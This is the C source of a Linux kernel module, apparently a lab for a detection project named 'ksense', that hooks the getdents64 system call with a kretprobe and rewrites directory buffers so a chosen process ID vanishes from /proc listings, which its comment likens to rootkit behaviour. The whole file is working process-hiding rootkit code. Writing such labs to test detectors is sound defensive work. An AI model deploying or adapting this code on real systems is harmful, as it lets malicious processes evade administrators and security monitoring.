// SPDX-License-Identifier: GPL-2.0-only
/*
 * ks_getdents.c - leaves one name out of all folders: that of a process in /proc, as rootkits do.
 *
 *	echo PID >/sys/module/ks_getdents/parameters/pid      (0: nothing)
 *
 * Never load it on a machine that matters.
 */
#include <linux/types.h>
#include <linux/dirent.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/string.h>
#include <linux/uaccess.h>

static int pid;
module_param(pid, int, 0600);

struct call {
	void __user *buffer;
};

static int on_entry(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	/* The system call's own registers are what its one argument points to. */
	const struct pt_regs *user = (const struct pt_regs *)regs->di;

	((struct call *)instance->data)->buffer = (void __user *)user->si;
	return 0;
}

/*
 * The bytes of the entry at @at of the caller's buffer, and whether it is the one; 0 if
 * it cannot be read.
 */
static unsigned int entry_at(char __user *at, const char *name, size_t name_bytes, bool *found)
{
	struct linux_dirent64 entry;
	char text[16];

	if (copy_from_user_nofault(&entry, at, sizeof(entry)) || entry.d_reclen < sizeof(entry) ||
	    copy_from_user_nofault(text, at + offsetof(struct linux_dirent64, d_name), name_bytes))
		return 0;
	*found = !memcmp(text, name, name_bytes);
	return entry.d_reclen;
}

/*
 * It becomes a part of the entry before it; where it is the first, the caller gets what is behind
 * it next, which is good enough for /proc.
 */
static int on_return(struct kretprobe_instance *instance, struct pt_regs *regs)
{
	char __user *buffer = ((struct call *)instance->data)->buffer;
	long bytes = regs_return_value(regs), at = 0, before = -1;
	char name[16];
	size_t name_bytes;
	unsigned int len;
	bool found;

	if (!pid || bytes <= 0)
		return 0;
	name_bytes = (size_t)snprintf(name, sizeof(name), "%d", pid) + 1;
	while (at < bytes && (len = entry_at(buffer + at, name, name_bytes, &found))) {
		if (found && before >= 0) {
			unsigned short joined = (unsigned short)(at - before + len);

			copy_to_user_nofault(buffer + before + offsetof(struct linux_dirent64, d_reclen), &joined,
					     sizeof(joined));
			return 0;
		}
		before = at;
		at += len;
	}
	return 0;
}

static struct kretprobe probe = {
	.kp.symbol_name = "__x64_sys_getdents64",
	.entry_handler = on_entry,
	.handler = on_return,
	.data_size = sizeof(struct call),
	.maxactive = 64,
};

static int __init ks_getdents_start(void)
{
	return register_kretprobe(&probe);
}

static void __exit ks_getdents_stop(void)
{
	unregister_kretprobe(&probe);
}

module_init(ks_getdents_start);
module_exit(ks_getdents_stop);

MODULE_DESCRIPTION("lab of ksense: a process that /proc does not list");
MODULE_LICENSE("GPL");
